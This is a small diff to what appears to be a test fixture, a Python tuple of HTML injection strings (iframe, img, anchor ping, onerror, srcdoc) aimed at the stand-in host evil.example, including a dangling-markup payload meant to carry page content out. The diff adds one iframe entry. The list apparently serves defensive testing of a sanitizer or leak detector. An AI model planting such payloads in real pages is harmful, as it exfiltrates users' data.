@@ -163,6 +163,7 @@ INSIDE = (
     '<a href="https://ok.example" ping="//evil.example/ ✱">',
     '<x onerror="load(✱)">',
     '<iframe srcdoc="<img src=//evil.example/ ✱>">',
+    '<iframe src=//evil.example name="✱">',
     "<img src='https://evil.example/?d=\n\nall that follows, and ✱",
     '<b title="\n\n<img src="&#47;&#47;evil.example/ ✱">',
     '<a/href="//evil.example/ ✱">',
